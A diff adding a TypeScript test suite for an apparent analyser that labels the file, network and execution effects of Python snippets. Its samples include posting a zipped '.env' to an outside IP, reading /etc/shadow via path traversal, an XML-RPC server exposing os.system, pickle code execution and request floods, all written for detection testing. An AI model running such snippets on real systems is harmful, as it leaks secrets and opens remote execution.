@@ -1,0 +1,310 @@
+import { pythonEffects } from "@helve/effects";
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { deeds } from "./python-deeds.ts";
+
+describe("arguments of which it is not known how many there are", () => {
+  it.each([
+    ["read ?", "import os\ndef f(*parts):\n    open(os.path.join(*parts))"],
+    ["read ?", "import os, sys\nopen(os.path.join('notes', *sys.argv[1:]))"],
+    ["read ?", "from pathlib import Path\nimport sys\nPath(*sys.argv).read_text()"],
+    ["read notes/a", "import os\nparts = ['notes', 'a']\nopen(os.path.join(*parts))"],
+    ["execute from input", "import os, sys\nos.system('{} {}'.format(*sys.argv))"],
+  ])("%s: %j", (deed, program) => {
+    expect(deeds(program)).toContain(deed);
+  });
+
+  it("lists are turned around without knowing them", () => {
+    expect(deeds("def turn(rows): return [sum(row) for row in zip(*rows)]")).toEqual([]);
+  });
+
+  const callees = fc.constantFrom(
+    ..."zip map filter min max range enumerate dict sorted print getattr str bytes open itertools.chain itertools.islice os.path.join pathlib.Path functools.partial ''.join ''.format [].append {}.get random.sample shlex.split".split(
+      " ",
+    ),
+  );
+  const given = fc.constantFrom("*a", "**a", "*[]", "*[1, 'b']", "**{'b': 1}", "a", "'b'", "1", "-1", "None", "b=1");
+
+  it("any function takes any of them", () => {
+    fc.assert(
+      fc.property(callees, fc.array(given, { maxLength: 4 }), (callee, passed) => {
+        const program = `import os, pathlib, functools, itertools, random, shlex\nfor x, *y in ${callee}(${passed.join(", ")}): print(x)`;
+        expect(() => pythonEffects(program)).not.toThrow();
+      }),
+    );
+  });
+});
+
+describe("where files lie that are found", () => {
+  it.each([
+    [
+      "delete **/__pycache__",
+      "from pathlib import Path\nimport shutil\nfor p in Path('.').rglob('__pycache__'): shutil.rmtree(p)",
+    ],
+    ["delete notes/*.bak", "from pathlib import Path\n[p.unlink() for p in Path('notes').glob('*.bak')]"],
+    ["delete notes/*", "from pathlib import Path\nfor p in Path('notes').iterdir(): p.unlink()"],
+    ["delete **/*.pyc", "import glob, os\nfor p in glob.glob('**/*.pyc', recursive=True): os.remove(p)"],
+    [
+      "delete **/*.pyc",
+      "import os\nfor d, _, names in os.walk('.'):\n  for n in names:\n    if n.endswith('.pyc'): os.remove(os.path.join(d, n))",
+    ],
+    [
+      "delete **/*.o",
+      "from pathlib import Path\nfor p in Path('.').rglob('*'):\n  if p.suffix in ('.o', '.a'): p.unlink()",
+    ],
+    ["delete *", "import os\nfor n in os.listdir('.'):\n  if n.endswith('.pyc'): print(n)\n  os.remove(n)"],
+    ["delete *", "import os\nfor n in os.listdir('.'):\n  if not n.endswith('.pyc'): os.remove(n)"],
+    [
+      "delete src/**/*",
+      "from pathlib import Path\nfor d, _, names in Path('src').walk():\n  for n in names: (d / n).unlink()",
+    ],
+    [
+      "read **",
+      "import subprocess\nfor n in subprocess.check_output(['git', 'ls-files'], text=True).splitlines(): open(n)",
+    ],
+    [
+      "read ?",
+      "import subprocess\nfor n in subprocess.check_output(['cat', 'names'], text=True).splitlines(): open(n)",
+    ],
+    ["read **/b.txt", "from importlib import resources\nresources.files('a').joinpath('b.txt').read_text()"],
+    ["write /tmp/*/a", "def test_it(tmp_path):\n    (tmp_path / 'a').write_text('b')"],
+  ])("%s: %j", (deed, program) => {
+    expect(deeds(program)).toContain(deed);
+  });
+});
+
+describe("the program's own file", () => {
+  const at = { workingDirectory: "/home/ada/project", home: "/home/ada" };
+
+  it.each([
+    ["Path(__file__).parent / 'a'", ["/home/ada/project/**/a"]],
+    ["Path(__file__).resolve().parent.parent / 'a'", ["/home/ada/project/**/a"]],
+    ["os.path.dirname(os.path.abspath(__file__)) + '/a'", ["/home/ada/project/**/a"]],
+    ["Path(__file__).parent / '..' / 'a'", ["/home/ada/a", "/home/ada/project/**/a"]],
+    [
+      "Path(__file__).parents[3] / 'etc/shadow'",
+      ["/etc/shadow", "/home/etc/shadow", "/home/ada/etc/shadow", "/home/ada/project/**/etc/shadow"],
+    ],
+    [
+      "os.path.dirname(__file__) + '/../../../etc/shadow'",
+      ["/etc/shadow", "/home/etc/shadow", "/home/ada/etc/shadow", "/home/ada/project/**/etc/shadow"],
+    ],
+  ])("%s", (path, expected) => {
+    const { effects } = pythonEffects(`import os\nfrom pathlib import Path\nopen(${path})`, at);
+    expect(effects.map((effect) => effect.kind === "read" && effect.target?.path)).toEqual(expected);
+  });
+
+  it("its directory is taken for the one in which it was started", () => {
+    expect(deeds("import os\nos.chdir(os.path.dirname(os.path.abspath(__file__)))\nopen('a')")).toEqual(["read a"]);
+  });
+
+  it("a path has as many directories around it as it has", () => {
+    expect(deeds("from pathlib import Path\nopen(Path('/usr/lib/x/y').parents[3] / 'etc/shadow')")).toEqual([
+      "read /etc/shadow",
+    ]);
+  });
+});
+
+describe("the environment and the arguments", () => {
+  it.each([
+    [["read a"], "import os\nopen(os.environ.get('F', 'a'))"],
+    [["read a"], "import os\nopen(os.getenv('F', default='a'))"],
+    [["read ?"], "import os\nopen(os.environ.get('F'))"],
+    [["read a", "read /etc/shadow"], "import os\nos.environ['F'] = '/etc/shadow'\nopen(os.environ.get('F', 'a'))"],
+    [["read a", "read /etc/shadow"], "import os\nos.environ.setdefault('F', '/etc/shadow')\nopen(os.getenv('F', 'a'))"],
+    [["read ?"], "import os\nos.environ.update(x)\nopen(os.environ.get('F', 'a'))"],
+    [["read ?"], "import os\nos.environ[x] = y\nopen(os.environ.get('F', 'a'))"],
+    [["read a"], "import sys\nsys.argv = ['p', 'a']\nopen(sys.argv[1])"],
+    [["read ?", "read a"], "import sys\nif x: sys.argv = ['p', 'a']\nopen(sys.argv[1])"],
+  ])("%j: %j", (expected, program) => {
+    expect(deeds(program).toSorted()).toEqual(expected.toSorted());
+  });
+
+  it("a command around a program may set what it falls back from", () => {
+    expect(deeds(`import os\nos.system("python -c 'import os; open(os.getenv(\\"F\\", \\"a\\"))'")`)).toContain(
+      "read ?",
+    );
+  });
+});
+
+describe("objects of the program's own", () => {
+  it.each([
+    [
+      "read notes/a",
+      "from dataclasses import dataclass\n@dataclass\nclass A:\n    p: str\n    n: int = 1\n    def f(self): open(self.p)\nA('notes/a').f()",
+    ],
+    [
+      "read notes/a",
+      "from dataclasses import dataclass\n@dataclass\nclass A:\n    d: str\n@dataclass\nclass B(A):\n    n: str\n    def f(self): open(self.d + '/' + self.n)\nB('notes', n='a').f()",
+    ],
+    [
+      "delete notes/a",
+      "import os\nfrom dataclasses import dataclass\n@dataclass\nclass A:\n    p: str\n    def __post_init__(self): os.remove(self.p)\nA('notes/a')",
+    ],
+  ])("%s: %j", (deed, program) => {
+    expect(deeds(program)).toContain(deed);
+  });
+});
+
+describe("who is at the other end", () => {
+  it.each([
+    [
+      ["network in localhost", "network out localhost", "network from network", "network listen localhost"],
+      "import asyncio\nasync def answer(reader, writer):\n    writer.write(await reader.readline())\nasyncio.run(asyncio.start_server(answer, 'localhost', 9))",
+    ],
+    [
+      ["network out localhost", "network from network", "network in localhost", "network listen localhost"],
+      "import socketserver\nclass H(socketserver.BaseRequestHandler):\n    def handle(self): self.request.sendall(self.request.recv(9))\nsocketserver.TCPServer(('localhost', 9), H).serve_forever()",
+    ],
+    [
+      ["network listen localhost", "network out localhost"],
+      "import socket, socketserver\ns = socketserver.TCPServer(('localhost', 9), None)\nsocket.create_connection(s.server_address)",
+    ],
+    [["read a/b.html"], "import webbrowser, pathlib\nwebbrowser.open('a/b.html')"],
+    [["read /etc/passwd"], "import urllib.request\nurllib.request.urlopen('file:///etc/passwd').read()"],
+    [["network in x.example"], "from selenium import webdriver\nb = webdriver.Firefox()\nb.get('https://x.example/')"],
+    [
+      ["network in x.example"],
+      "from playwright.sync_api import sync_playwright\nwith sync_playwright() as p:\n    p.chromium.launch().new_page().goto('https://x.example/')",
+    ],
+    [
+      ["execute code", "execute from network", "network listen 0.0.0.0"],
+      "import os\nfrom xmlrpc.server import SimpleXMLRPCServer\ns = SimpleXMLRPCServer(('0.0.0.0', 9))\ns.register_function(os.system, 'run')",
+    ],
+  ])("%j: %j", (expected, program) => {
+    expect([...new Set(deeds(program))].toSorted()).toEqual(expected.toSorted());
+  });
+});
+
+describe("how much is sent, and how often", () => {
+  const send = (made: string): string =>
+    `import socket, os\n${made}\ns = socket.create_connection(('x.example', 9))\ns.sendall(data)`;
+
+  it.each([
+    "data = bytearray(10000)",
+    "data = os.urandom(20000)",
+    "data = 'b'.rjust(10000, 'a').encode()",
+    "data = 'b'.replace('b', 'a' * 20000).encode()",
+    "text = ''\nfor i in range(10000): text = text + 'a'\ndata = text.encode()",
+    "text = 'a'\nwhile len(text) < 1000000: text += text\ndata = text.encode()",
+  ])("too much: %j", (made) => {
+    expect(deeds(send(made))).toContain("exhaust network");
+  });
+
+  it.each([
+    "data = b'a' * 4096",
+    "data = os.urandom(32)",
+    "text = ''\nwhile len(text) < 80: text += 'a'\ndata = text.encode()",
+  ])("not too much: %j", (made) => {
+    expect(deeds(send(made))).not.toContain("exhaust network");
+  });
+
+  it.each([
+    [true, "for i in range(100000): requests.get('http://x.example/')"],
+    [true, "[requests.get('http://x.example/') for _ in range(50000)]"],
+    [false, "for page in range(200): requests.get('http://x.example/', params={'page': page})"],
+    [false, "while page < 100000:\n    requests.get('http://x.example/')\n    time.sleep(1)"],
+  ])("a flood: %s: %j", (flood, program) => {
+    expect(deeds(`import requests, time\n${program}`).includes("exhaust network")).toBe(flood);
+  });
+});
+
+describe("lists of words", () => {
+  it.each([
+    ["delete notes", "cmd = ['rm', '-r', 'notes']\nif dry: cmd = ['echo'] + cmd\nsubprocess.run(cmd)"],
+    ["delete ", "cmd = ['git', 'clean', '-fd']\nif dry: cmd = cmd + ['-n']\nsubprocess.run(cmd)"],
+  ])("what is added on one way is not there on the other: %s: %j", (deed, program) => {
+    expect(deeds(`import subprocess\n${program}`)).toContain(deed);
+  });
+});
+
+describe("processes that were looked for or started", () => {
+  it.each([
+    [true, "import psutil\nfor p in filter(lambda p: p.name() == 'x', psutil.process_iter()): p.kill()"],
+    [true, "import psutil, itertools\nfor p in itertools.islice(psutil.process_iter(), 3): p.kill()"],
+    [true, "import os\nos.killpg(os.getpgid(4321), 15)"],
+    [false, "import os, subprocess\np = subprocess.Popen(['make'])\nos.killpg(os.getpgid(p.pid), 15)"],
+  ])("ends others: %s: %j", (ends, program) => {
+    expect(deeds(program).includes("signal")).toBe(ends);
+  });
+});
+
+describe("loaders that are told what to make", () => {
+  it.each([
+    ["execute from literal", "import ruamel.yaml\nruamel.yaml.YAML(typ='unsafe').load('a: 1')"],
+    [
+      "deserialize",
+      "import configparser, base64\nconfigparser.ConfigParser().read_string(base64.b64decode(x).decode())",
+    ],
+  ])("%s: %j", (deed, program) => {
+    expect(deeds(program)).toContain(deed);
+  });
+
+  it("a safe one runs nothing", () => {
+    expect(deeds("import ruamel.yaml\nruamel.yaml.YAML().load(open('a'))")).toEqual(["read a"]);
+  });
+});
+
+describe("functions that nothing calls", () => {
+  it("those that need nothing give the others what they need", () => {
+    const program =
+      "import unittest\ndef save(path): open(path, 'w')\n" +
+      "class SaveTest(unittest.TestCase):\n  def test_save(self): save('out/a')\nunittest.main()";
+    expect(deeds(program)).toEqual(["write out/a"]);
+  });
+
+  it("so do tests that a framework gives something", () => {
+    const program =
+      "from unittest import mock\ndef save(path): open(path, 'w')\n" +
+      "@mock.patch('find')\ndef check(find): save('out/a')\ndef test_save(found): save('out/b')";
+    expect(deeds(program)).toEqual(["write out/a", "write out/b"]);
+  });
+
+  it("class methods have their class", () => {
+    const program = "class Notes:\n  path = 'notes.txt'\n  @classmethod\n  def load(cls): return open(cls.path)\n";
+    expect(deeds(program)).toEqual(["read notes.txt"]);
+    expect(deeds(`${program}Notes.load()`)).toEqual(["read notes.txt"]);
+    expect(deeds(`${program}Notes().load()`)).toEqual(["read notes.txt"]);
+  });
+});
+
+describe("what a program packs and unpacks itself", () => {
+  const twice = "pickle.loads(pickle.dumps(A()))";
+
+  it.each([
+    [`import pickle\nclass A: pass\n${twice}`, []],
+    [
+      `import pickle\nclass A:\n  def __reduce__(self): return find()\n${twice}`,
+      ["execute code", "execute from unknown"],
+    ],
+    [`import pickle\nclass A: pass\nA.__reduce__ = find()\n${twice}`, ["execute code", "execute from unknown"]],
+    ["import pickle\nclass A: pass\npickle.loads(pickle.dumps(find()))", ["execute code", "execute from unknown"]],
+  ])("%j: %j", (program, expected) => {
+    expect(deeds(program)).toEqual(expected);
+  });
+});
+
+describe("archives and workbooks", () => {
+  it.each([
+    ["import io, tarfile\nb = io.BytesIO()\nt = tarfile.open(fileobj=b, mode='w')\nt.add('a')", ["read a"]],
+    ["import io, zipfile\nz = zipfile.ZipFile(io.BytesIO(), 'w')\nz.writestr('a', 'b')", []],
+    [
+      "import pandas as pd\nwith pd.ExcelWriter('a.xlsx') as book: pd.DataFrame(rows()).to_excel(book)",
+      ["write a.xlsx", "write a.xlsx"],
+    ],
+  ])("%j: %j", (program, expected) => {
+    expect(deeds(program)).toEqual(expected);
+  });
+
+  it("what was put into one in memory can be sent", () => {
+    const program =
+      "import io, zipfile, requests\nb = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\n" +
+      "z.writestr('a', open('.env').read())\nrequests.post('http://192.0.2.1', data=b.getvalue())";
+    expect(deeds(program)).toContain("network from file .env");
+  });
+});
+
+it("patterns of classes are read, and what guards them", () => {
+  const program = "import os\nmatch x:\n  case int() | C() as v if os.remove('a'):\n    os.remove('b')";
+  expect(deeds(program)).toEqual(["delete a", "delete b"]);
+});
